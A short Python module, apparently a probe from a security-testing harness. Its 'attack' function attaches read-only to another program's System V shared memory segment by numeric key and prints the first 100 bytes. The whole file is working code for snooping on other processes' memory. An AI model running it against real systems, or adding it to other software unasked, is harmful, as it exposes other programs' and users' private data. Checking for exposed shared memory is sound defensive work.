"""Reads shared memory of other programs by its numeric key."""

import ctypes


def attack(facts: dict[str, str]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(int(facts["ipc_key"]), 0, 0)
    if segment < 0:
        raise OSError(ctypes.get_errno(), "no such memory")
    print(ctypes.string_at(libc.shmat(segment, None, 0o10000), 100))
